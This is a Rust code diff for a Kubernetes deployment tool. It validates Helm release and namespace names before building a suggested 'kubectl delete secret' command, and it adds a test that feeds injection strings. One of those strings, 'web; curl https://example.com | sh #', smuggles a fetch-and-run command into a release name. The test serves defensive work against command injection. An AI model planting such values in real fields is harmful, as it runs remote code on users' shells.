@@ -3,6 +3,7 @@
 use std::collections::BTreeMap;
 
 use bundle_core::diagnostic::{Finding, Findings, codes};
+use bundle_core::names::{KubeName, NameKind};
 
 use crate::commands::deployments::preview::origin::ObjectOrigin;
 use crate::commands::deployments::preview::{NoteEffect, Preview};
@@ -91,10 +92,24 @@ impl AdoptedObjects {
         let origins = self.by_origin.keys().flatten();
         let steps = origins.filter_map(|origin| match origin {
             ObjectOrigin::Helm { release, namespace } => {
-                let (release, namespace) = (safe(release), safe(namespace));
-                Some(format!(
-                    "Helm still lists release {namespace}/{release}, and `helm uninstall` deletes the adopted objects. Remove only its record: kubectl delete secret -n {namespace} -l owner=helm,name={release}"
-                ))
+                let step = format!(
+                    "Helm still lists release {}/{}, and `helm uninstall` deletes the adopted objects. Remove only its record",
+                    safe(namespace),
+                    safe(release)
+                );
+                // Everyone who can write an object chooses its annotations, and a user pastes the
+                // command into a shell.
+                let parse = KubeName::parse;
+                let names = (
+                    parse(NameKind::Label, namespace),
+                    parse(NameKind::Subdomain, release),
+                );
+                Some(match names {
+                    (Ok(namespace), Ok(release)) => format!(
+                        "{step}: kubectl delete secret -n {namespace} -l owner=helm,name={release}"
+                    ),
+                    _ => format!("{step}, a Secret with the label owner=helm"),
+                })
             }
             _ => None,
         });
@@ -136,6 +151,29 @@ mod tests {
         let steps = adopted.next_steps();
         assert_eq!(steps.len(), 1);
         assert!(steps[0].ends_with("kubectl delete secret -n team-a -l owner=helm,name=web"));
+    }
+
+    #[test]
+    fn annotations_never_become_part_of_a_command() {
+        for (release, namespace) in [
+            ("web; curl https://example.com | sh #", "team-a"),
+            ("web", "team-a -l owner"),
+            ("web,name=db", "team-a"),
+            ("", "team-a"),
+        ] {
+            let origin = ObjectOrigin::Helm {
+                release: release.to_owned(),
+                namespace: namespace.to_owned(),
+            };
+            let preview = preview_with_notes(vec![(
+                "ConfigMap/team-a/web",
+                NoteEffect::Adoption,
+                Some(origin),
+            )]);
+            let steps = objects_to_adopt("web", &preview).unwrap().next_steps();
+            assert_eq!(steps.len(), 1);
+            assert!(!steps[0].contains("kubectl"), "{}", steps[0]);
+        }
     }
 
     #[test]
